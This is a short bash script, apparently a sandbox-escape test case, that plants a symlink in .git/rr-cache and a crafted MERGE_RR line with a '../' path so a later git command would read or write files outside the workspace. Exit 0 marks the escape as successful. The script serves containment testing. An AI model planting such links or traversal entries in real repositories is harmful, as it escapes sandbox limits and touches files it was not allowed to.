#!/bin/bash
# must NOT make a later git outside read or write a file that a link in rr-cache or a line of MERGE_RR names. Success (exit 0) = the escape WORKED; any other exit = held; 77 = prerequisite missing.
# VERIFY: cd "$ATK_WS"; r=1; [ -L .git/rr-cache/atk/thisimage ] && r=0; grep -qs atk_rr .git/MERGE_RR && r=0; rm -rf .git/rr-cache/atk .git/MERGE_RR; exit $r
. "${SBX_ENV:-./attack.env}" || exit 77
mkdir -p .git/rr-cache/atk; ln -s "$ATK_OUT/victim_hl" .git/rr-cache/atk/thisimage; printf '%040d.0\t../atk_rr\0' 1 > .git/MERGE_RR; exit 0
